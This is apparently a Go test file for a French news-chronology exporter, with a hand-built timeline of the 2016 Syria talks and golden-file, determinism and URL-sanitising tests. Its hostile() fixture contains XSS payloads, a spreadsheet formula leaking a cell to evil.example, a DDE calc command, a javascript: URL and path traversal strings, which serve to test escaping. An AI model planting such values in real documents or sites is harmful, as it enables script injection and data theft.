package export

import (
	"bytes"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	_ "time/tzdata" // the story's zone must load on machines without zoneinfo

	"github.com/timeline-fr/timeline/timeline"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// paris is the zone of the story's outlets.
var paris = mustLoad("Europe/Paris")

func mustLoad(name string) *time.Location {
	loc, err := time.LoadLocation(name)
	if err != nil {
		panic(err) // tests only: time/tzdata is linked in
	}
	return loc
}

// day is a mention of a whole day in Paris.
func day(text string, offset int, value string) timeline.Mention {
	start, err := time.ParseInLocation("2006-01-02", value, paris)
	if err != nil {
		panic(err)
	}
	return timeline.Mention{Offset: offset, EndOffset: offset + len(text), Text: text, Type: timeline.TypeDate,
		Value: value, Start: start, End: start.AddDate(0, 0, 1), Grain: timeline.GrainDay}
}

// span is a mention of [start, end) at grain g; times are wall clocks in
// Paris, "2006-01-02T15:04".
func span(text, value string, g timeline.Grain, start, end string) timeline.Mention {
	parse := func(s string) time.Time {
		layout := "2006-01-02"
		if strings.Contains(s, "T") {
			layout = "2006-01-02T15:04"
		}
		t, err := time.ParseInLocation(layout, s, paris)
		if err != nil {
			panic(err)
		}
		return t
	}
	typ := timeline.TypeDate
	if isTimed(g) {
		typ = timeline.TypeTime
	}
	return timeline.Mention{Text: text, Type: typ, Value: value, Grain: g, Start: parse(start), End: parse(end)}
}

// Sources of the story: the fixture articles' outlets.
var (
	meridien = timeline.Entry{Source: "Agence Méridien", Title: "La trêve tient",
		URL:       "https://www.agence-meridien.example/depeches/syrie-treve-premier-jour",
		Published: time.Date(2016, 2, 28, 9, 15, 0, 0, paris)}
	echo = timeline.Entry{Source: "L'Écho diplomatique", Title: "Moscou retire ses avions",
		URL:       "https://www.echo-diplomatique.example/2016/03/15/retrait-russe-syrie",
		Published: time.Date(2016, 3, 15, 19, 40, 0, 0, paris)}
	sputnik = timeline.Entry{Source: "Sputnik France", Title: "John Kerry rencontrera Vladimir Poutine",
		URL:       "https://fr.sputniknews.com/international/201603221023572362-kerry-poutine-visite-moscou-entretien/",
		Published: time.Date(2016, 3, 22, 0, 0, 0, 0, paris)}
	gazette = timeline.Entry{Source: "La Gazette du Levant", Title: "Kerry à Moscou",
		URL:       "https://www.gazette-du-levant.example/kerry-moscou",
		Published: time.Date(2016, 3, 25, 7, 30, 0, 0, paris)}
)

// source is one article's event: e's article with a sentence and a date.
func source(e timeline.Entry, article, sentence string, m timeline.Mention, modality timeline.Modality) timeline.Entry {
	e.ArticleID = article
	e.Sentence = sentence
	e.Date = m
	e.Modality = modality
	if i := strings.Index(sentence, m.Text); m.Text != "" && i >= 0 {
		e.Date.Offset = 100 + i // the sentences start at byte 100 of their articles
		e.Date.EndOffset = e.Date.Offset + len(m.Text)
	}
	e.SentenceOffset = 100
	e.SentenceEnd = 100 + len(sentence)
	return e
}

// story is a small chronology of the Syria talks, written by hand after
// the fixture articles, so that the golden files follow the encoders and
// not the tagger.
func story() Chronology {
	treve := day("samedi 27 février", 0, "2016-02-27")
	annonce := day("lundi 14 mars", 0, "2016-03-14")
	matin := span("mardi matin", "2016-03-15TMO", timeline.GrainPart, "2016-03-15T06:00", "2016-03-15T12:00")
	semaine := span("la semaine prochaine", "2016-W12", timeline.GrainWeek, "2016-03-21", "2016-03-28")
	kremlin := day("jeudi 24 mars", 0, "2016-03-24")
	depart := span("jeudi à 18 h 30", "2016-03-24T18:30", timeline.GrainMinute, "2016-03-24T18:30", "2016-03-24T18:31")
	avril := span("en avril", "2016-04", timeline.GrainMonth, "2016-04-01", "2016-05-01")
	hs := []timeline.Happening{
		{ID: "h-treve", Date: treve, Headline: "La cessation des hostilités entre en vigueur en Syrie",
			Actors: []string{"États-Unis", "Russie"}, Places: []string{"Syrie", "Damas"}, Modality: timeline.ModalityHappened,
			Sources: []timeline.Entry{source(meridien, "meridien-2016-02-28-treve-tient",
				"La cessation des hostilités est entrée en vigueur samedi 27 février à minuit, heure de Damas.", treve, timeline.ModalityHappened)}},
		{ID: "h-annonce", Date: annonce, Headline: "Vladimir Poutine annonce le retrait du gros des forces russes de Syrie",
			Actors: []string{"Vladimir Poutine"}, Places: []string{"Kremlin", "Syrie"}, Modality: timeline.ModalityHappened,
			Sources: []timeline.Entry{
				source(echo, "echo-diplomatique-2016-03-15-retrait-russe",
					"Vladimir Poutine a annoncé lundi 14 mars, lors d'une réunion au Kremlin, le retrait de l'essentiel de ses forces.", annonce, timeline.ModalityHappened),
				source(sputnik, "sputnik-2016-03-22-kerry-moscou",
					"Le président russe a annoncé le 21 mars le retrait du gros des forces russes de Syrie.", day("le 21 mars", 0, "2016-03-21"), timeline.ModalityHappened),
			},
			Why:       []string{"same actors and predicate (annoncer le retrait), dates 6 days apart"},
			Conflicts: []string{"cross-source-date"}},
		{ID: "h-hmeimim", Date: matin, Headline: "Les premiers avions russes quittent la base de Hmeimim",
			Actors: []string{"armée russe"}, Places: []string{"Hmeimim"}, Modality: timeline.ModalityHappened,
			Sources: []timeline.Entry{
				source(echo, "echo-diplomatique-2016-03-15-retrait-russe",
					"Les premiers avions russes ont quitté la base aérienne de Hmeimim mardi matin.", matin, timeline.ModalityHappened),
				source(gazette, "gazette-du-levant-2016-03-25-kerry-moscou",
					"Les premiers bombardiers avaient quitté la base de Hmeimim dès lundi 15 mars.", day("lundi 15 mars", 0, "2016-03-15"), timeline.ModalityHappened),
			},
			Conflicts: []string{"weekday-mismatch"}},
		{ID: "h-kerry-annonce", Date: semaine, Headline: "John Kerry rencontrerait Vladimir Poutine à Moscou",
			Actors: []string{"John Kerry", "Vladimir Poutine"}, Places: []string{"Moscou"}, Modality: timeline.ModalityConditional,
			Sources: []timeline.Entry{source(sputnik, "sputnik-2016-03-22-kerry-moscou",
				"Le secrétaire d'Etat américain a indiqué qu'il rencontrerait la semaine prochaine à Moscou le président russe.", semaine, timeline.ModalityConditional)}},
		{ID: "h-kremlin", Date: kremlin, Headline: "John Kerry s'entretient au Kremlin avec Vladimir Poutine",
			Actors: []string{"John Kerry", "Vladimir Poutine", "Sergueï Lavrov"}, Places: []string{"Kremlin", "Moscou"}, Modality: timeline.ModalityHappened,
			Sources: []timeline.Entry{source(gazette, "gazette-du-levant-2016-03-25-kerry-moscou",
				"Il s'est entretenu jeudi 24 mars au Kremlin avec Vladimir Poutine, en présence de Sergueï Lavrov.", kremlin, timeline.ModalityHappened)}},
		{ID: "h-depart", Date: depart, Headline: "John Kerry quitte Moscou",
			Actors: []string{"John Kerry"}, Places: []string{"Moscou"}, Modality: timeline.ModalityHappened,
			Sources: []timeline.Entry{source(gazette, "gazette-du-levant-2016-03-25-kerry-moscou",
				"Le secrétaire d'État américain John Kerry a quitté Moscou jeudi à 18 h 30.", depart, timeline.ModalityHappened)}},
		{ID: "h-geneve", Date: avril, Headline: "Une nouvelle session de négociations est attendue à Genève",
			Places: []string{"Genève"}, Modality: timeline.ModalityPlanned,
			Sources: []timeline.Entry{source(gazette, "gazette-du-levant-2016-03-25-kerry-moscou",
				"Une nouvelle session est attendue en avril à Genève.", avril, timeline.ModalityPlanned)}},
	}
	return Chronology{Happenings: hs, Conflicts: storyConflicts(), Articles: []timeline.Article{storyArticle()},
		Mentions: map[string][]timeline.Mention{storyArticle().ID: storyMentions()}}
}

// storyConflicts are the two dates of the fixtures that do not add up.
func storyConflicts() []timeline.Conflict {
	return []timeline.Conflict{
		{Kind: "cross-source-date", Severity: timeline.SeverityError,
			Message:  "Sputnik France dates Vladimir Poutine's announcement on 21 March 2016; L'Écho diplomatique on Monday 14 March 2016.",
			Articles: []string{"sputnik-2016-03-22-kerry-moscou", "echo-diplomatique-2016-03-15-retrait-russe"},
			Dates:    []string{"2016-03-21", "2016-03-14"}, Happening: "h-annonce"},
		{Kind: "weekday-mismatch", Severity: timeline.SeverityWarning,
			Message:  "« lundi 15 mars »: 15 March 2016 was a Tuesday.",
			Articles: []string{"gazette-du-levant-2016-03-25-kerry-moscou"},
			Dates:    []string{"2016-03-15"}, Sentences: []string{"Les premiers bombardiers avaient quitté la base de Hmeimim dès lundi 15 mars."},
			Happening: "h-hmeimim"},
	}
}

// storyText is the article the TimeML golden file annotates.
const storyText = "MOSCOU — Le secrétaire d’État américain John Kerry a quitté Moscou jeudi soir.\r\n\r\n" +
	"Les premiers bombardiers avaient quitté la base de Hmeimim dès lundi 15 mars, il y a dix jours & plus."

func storyArticle() timeline.Article {
	return timeline.Article{ID: "gazette-du-levant-2016-03-25-kerry-moscou", Source: "La Gazette du Levant",
		Title: "Kerry à Moscou", URL: gazette.URL, Published: gazette.Published, Language: "fr", Text: storyText}
}

// storyMentions are the mentions of storyText, "dix jours" overlapping
// "il y a dix jours".
func storyMentions() []timeline.Mention {
	at := func(m timeline.Mention, text string) timeline.Mention {
		m.Text = text
		m.Offset = strings.Index(storyText, text)
		m.EndOffset = m.Offset + len(text)
		m.Anchor = "publication 2016-03-25"
		return m
	}
	soir := at(span("", "2016-03-24TEV", timeline.GrainPart, "2016-03-24T18:00", "2016-03-25T00:00"), "jeudi soir")
	soir.Inferred = []string{"direction"}
	lundi := at(day("", 0, "2016-03-15"), "lundi 15 mars")
	lundi.Inferred = []string{"year"}
	ago := at(day("", 0, "2016-03-15"), "il y a dix jours")
	ago.Inferred = []string{"direction"}
	ago.Mod = "APPROX"
	dix := at(timeline.Mention{Type: timeline.TypeDuration, Value: "P10D", Grain: timeline.GrainDay}, "dix jours")
	return []timeline.Mention{soir, lundi, ago, dix}
}

// Hostile values: markup, formulas, quotes, line ends and a script URL.
const (
	hostileScript   = `<script>document.documentElement.setAttribute("data-pwned","1")</script>`
	hostileImage    = `<img src=x onerror="document.documentElement.setAttribute('data-pwned','2')">`
	hostileFormula  = `=HYPERLINK("http://evil.example/?leak="&A1;"clic")`
	hostileSentence = "\"Citation\" avec ; virgule, et \\ antislash\r\nsur deux lignes\rpuis CR " + hostileScript + " le 15 mars."
)

// hostile is a chronology whose every value from articles tries to break
// out of its format.
func hostile() Chronology {
	m := day("15 mars", 0, "2016-03-15")
	src := source(timeline.Entry{Source: "-Evil \"Press\" <b>bold</b>", Title: "]]><!-- " + hostileImage,
		URL: "javascript:alert(1)", Published: time.Date(2016, 3, 16, 10, 0, 0, 0, paris)},
		"../../etc/passwd\" onload=\"x", hostileSentence, m, timeline.ModalityHappened)
	src.Summary = "@SUM(1+1)*cmd|' /C calc'!A0"
	second := source(timeline.Entry{Source: "+Wire", URL: "https://evil.example/a b?q=<script>&x=\"y\"#'z'",
		Published: time.Date(2016, 3, 16, 11, 0, 0, 0, paris)}, "wire", "\tTabbed "+hostileImage, m, timeline.ModalityHappened)
	h := timeline.Happening{
		ID: "h\" onmouseover=\"alert(1)", Date: m, Headline: hostileFormula + " " + hostileScript,
		Actors: []string{"@admin", "-1+1", "</script><script>alert(1)</script>"}, Places: []string{hostileImage, "\rCR"},
		Modality: timeline.Modality("happened\" onclick=\"alert(1)"), Sources: []timeline.Entry{src, second},
		Conflicts: []string{"<i>kind</i>"},
	}
	art := timeline.Article{ID: "../../etc/passwd\" onload=\"x", Title: "]]>" + hostileScript,
		Published: src.Published, Text: strings.Repeat("x", 100) + hostileSentence + "\x00\x1b fin."}
	return Chronology{
		Happenings: []timeline.Happening{h},
		Conflicts: []timeline.Conflict{{Kind: "=cmd|' /C calc'!A0", Severity: timeline.SeverityError,
			Message: "</p>" + hostileScript + "\r\nBEGIN:VEVENT", Articles: []string{art.ID}, Dates: []string{"-2016"},
			Happening: h.ID}},
		Articles: []timeline.Article{art},
		Mentions: map[string][]timeline.Mention{art.ID: {src.Date}},
	}
}

// goldenName is the file of a format's golden output for a chronology.
func goldenName(prefix, format string) string {
	ext := map[string]string{
		FormatCSV: "csv", FormatJSON: "json", FormatJSONL: "jsonl", FormatMarkdown: "md", FormatICS: "ics",
		FormatTimelineJS: "timelinejs.json", FormatTimelineJSCSV: "timelinejs.csv", FormatTimeML: "tml", FormatHTML: "html",
	}[format]
	return prefix + "." + ext
}

// golden compares got with testdata/name, or rewrites the file with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatalf("update golden: %v", err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden (run go test -update to create it): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (run go test -update if the change is right)\ngot:\n%s\nwant:\n%s", path, got, want)
	}
}

// write runs Write and fails the test on error.
func write(t *testing.T, format string, c Chronology, opt Options) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, format, c, opt); err != nil {
		t.Fatalf("Write(%s): %v", format, err)
	}
	return b.Bytes()
}

func TestGolden(t *testing.T) {
	for _, format := range Formats() {
		t.Run(format, func(t *testing.T) {
			golden(t, goldenName("story", format), write(t, format, story(), Options{}))
		})
	}
	t.Run("csv excel", func(t *testing.T) {
		golden(t, "story.excel.csv", write(t, FormatCSV, story(), Options{Excel: true}))
	})
}

func TestDeterministic(t *testing.T) {
	for _, format := range Formats() {
		t.Run(format, func(t *testing.T) {
			first, second := write(t, format, story(), Options{}), write(t, format, story(), Options{})
			if !bytes.Equal(first, second) {
				t.Errorf("Write(%s) twice gave two outputs", format)
			}
		})
	}
}

func TestFormats(t *testing.T) {
	want := []string{"csv", "json", "jsonl", "markdown", "ics", "timelinejs", "timelinejs-csv", "timeml", "html"}
	if got := Formats(); !slices.Equal(got, want) {
		t.Errorf("Formats() = %q, want %q", got, want)
	}
}

func TestWriteUnknownFormat(t *testing.T) {
	err := Write(&bytes.Buffer{}, "pdf", story(), Options{})
	if !errors.Is(err, ErrUnknownFormat) || !strings.Contains(err.Error(), `"pdf"`) {
		t.Errorf("Write(pdf) = %v, want ErrUnknownFormat naming the format", err)
	}
}

// failingWriter fails every write.
type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriteError(t *testing.T) {
	for _, format := range Formats() {
		t.Run(format, func(t *testing.T) {
			err := Write(failingWriter{}, format, story(), Options{})
			if err == nil || !strings.Contains(err.Error(), "disk full") {
				t.Errorf("Write(%s) to a failing writer = %v, want the write error", format, err)
			}
		})
	}
}

func TestEmptyChronology(t *testing.T) {
	for _, format := range Formats() {
		if format == FormatTimeML {
			continue // needs one article
		}
		t.Run(format, func(t *testing.T) {
			write(t, format, Chronology{}, Options{})
		})
	}
}

func TestSafeURL(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"https", "https://fr.sputniknews.com/international/2016/", "https://fr.sputniknews.com/international/2016/"},
		{"http", "http://example.com/a?b=c", "http://example.com/a?b=c"},
		{"javascript", "javascript:alert(1)", ""},
		{"data", "data:text/html,<script>", ""},
		{"relative", "/2016/03/22/", ""},
		{"no host", "https:///path", ""},
		{"empty", "", ""},
		{"quotes and brackets", `https://e.example/?q=<x>&a="b"'c'`, "https://e.example/?q=%3Cx%3E&a=%22b%22%27c%27"},
		{"space in query", "https://e.example/?q=a b", "https://e.example/?q=a%20b"},
		{"non-ASCII", "https://e.example/é", "https://e.example/%C3%A9"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := safeURL(tt.in); got != tt.want {
				t.Errorf("safeURL(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestWallClock(t *testing.T) {
	tests := []struct {
		name string
		t    time.Time
		g    timeline.Grain
		want string
	}{
		{"day is a date, not midnight UTC", time.Date(2016, 3, 15, 0, 0, 0, 0, paris), timeline.GrainDay, "2016-03-15"},
		{"month", time.Date(2016, 4, 1, 0, 0, 0, 0, paris), timeline.GrainMonth, "2016-04-01"},
		{"part of day keeps the wall clock", time.Date(2016, 3, 15, 6, 0, 0, 0, paris), timeline.GrainPart, "2016-03-15T06:00:00"},
		{"zero", time.Time{}, timeline.GrainDay, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := wallClock(tt.t, tt.g); got != tt.want {
				t.Errorf("wallClock(%v, %s) = %q, want %q", tt.t, tt.g, got, tt.want)
			}
		})
	}
}

func TestConflictKinds(t *testing.T) {
	c := story()
	tests := []struct {
		name string
		h    timeline.Happening
		want []string
	}{
		{"filed under the entry", c.Happenings[1], []string{"cross-source-date"}},
		{"none", c.Happenings[0], nil},
		{"kind listed on the entry only", timeline.Happening{ID: "x", Conflicts: []string{"past-after-publication"}}, []string{"past-after-publication"}},
		{"entry without ID matches no conflict", timeline.Happening{}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := conflictKinds(tt.h, indexConflicts(c.Conflicts)); !slices.Equal(got, tt.want) {
				t.Errorf("conflictKinds(%s) = %q, want %q", tt.h.ID, got, tt.want)
			}
		})
	}
}
